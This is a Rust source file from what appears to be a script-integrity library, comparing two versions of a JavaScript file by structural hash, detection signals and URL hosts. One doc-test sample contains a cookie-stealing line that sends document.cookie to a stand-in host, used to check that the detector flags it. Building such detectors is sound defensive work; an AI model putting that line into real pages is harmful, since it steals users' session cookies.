//! What changed between two versions of a script.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

use crate::ScriptReport;

/// Additions and removals between two versions of a script. All lists are sorted.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
#[non_exhaustive]
pub struct ScriptDiff {
    /// Whether the structural hashes differ: calls, members, global names or operators changed, not only literals, names of
    /// the script's own and layout.
    pub structure_changed: bool,
    /// Ids of signals that only the later version has.
    pub signals_appeared: Vec<String>,
    /// Ids of signals that only the earlier version has.
    pub signals_gone: Vec<String>,
    /// Hosts of URLs that only the later version has, decoded strings included.
    pub hosts_appeared: Vec<String>,
    /// Hosts of URLs that only the earlier version has.
    pub hosts_gone: Vec<String>,
}

/// What versions of a script are compared by: of a [`ScriptReport`], or of what somebody kept of one.
///
/// ```
/// # #[cfg(feature = "bundled-model")] {
/// use jsintegrity::{ScriptDiff, ScriptTraits, Scorer};
///
/// let report = Scorer::bundled()?.score(b"track('https://a.example/t')")?;
/// // As a database may have kept the version before.
/// let kept = ScriptTraits::new(&*report.digests.structural, [], ["b.example".to_owned()]);
/// let diff = ScriptDiff::between(kept, &report);
/// assert!(!diff.structure_changed && !diff.is_empty());
/// assert_eq!((diff.hosts_gone, diff.hosts_appeared), (vec!["b.example".to_owned()], vec!["a.example".to_owned()]));
/// # }
/// # Ok::<(), jsintegrity::Error>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq)]
#[non_exhaustive]
pub struct ScriptTraits {
    /// Hash of the code's structure, as in [`ScriptDigests::structural`](crate::ScriptDigests::structural).
    pub structural: String,
    /// Ids of signals.
    pub signals: BTreeSet<String>,
    /// Hosts of URLs, as [`ScriptReport::hosts`] gives them.
    pub hosts: BTreeSet<String>,
}

impl ScriptTraits {
    /// A structural hash, ids of signals, and hosts.
    #[must_use]
    pub fn new(
        structural: impl Into<String>,
        signals: impl IntoIterator<Item = String>,
        hosts: impl IntoIterator<Item = String>,
    ) -> Self {
        Self {
            structural: structural.into(),
            signals: signals.into_iter().collect(),
            hosts: hosts.into_iter().collect(),
        }
    }
}

impl From<&ScriptReport> for ScriptTraits {
    fn from(report: &ScriptReport) -> Self {
        let signals = report.findings.iter().map(|finding| finding.signal.clone().into_owned());
        Self::new(report.digests.structural.clone(), signals, report.hosts())
    }
}

impl ScriptDiff {
    /// Compares two versions. They may come from different models.
    ///
    /// ```
    /// # #[cfg(feature = "bundled-model")] {
    /// use jsintegrity::{ScriptDiff, Scorer};
    ///
    /// let scorer = Scorer::bundled()?;
    /// let before = scorer.score(b"track('https://a.example/t')")?;
    /// let after = scorer.score(b"track('https://a.example/t');new Image().src='https://c.example/?'+document.cookie")?;
    /// let diff = ScriptDiff::between(&before, &after);
    /// assert!(diff.structure_changed);
    /// assert_eq!(diff.hosts_appeared, ["c.example"]);
    /// assert!(diff.signals_appeared.contains(&"cookies-sent-abroad".to_owned()));
    /// # }
    /// # Ok::<(), jsintegrity::Error>(())
    /// ```
    #[must_use]
    pub fn between(earlier: impl Into<ScriptTraits>, later: impl Into<ScriptTraits>) -> Self {
        let (earlier, later) = (earlier.into(), later.into());
        let only =
            |these: &BTreeSet<String>, others: &BTreeSet<String>| these.difference(others).cloned().collect();
        Self {
            structure_changed: earlier.structural != later.structural,
            signals_appeared: only(&later.signals, &earlier.signals),
            signals_gone: only(&earlier.signals, &later.signals),
            hosts_appeared: only(&later.hosts, &earlier.hosts),
            hosts_gone: only(&earlier.hosts, &later.hosts),
        }
    }

    /// Whether both versions have the same structure, signals and hosts.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        let lists = [&self.signals_appeared, &self.signals_gone, &self.hosts_appeared, &self.hosts_gone];
        !self.structure_changed && lists.iter().all(|list| list.is_empty())
    }
}
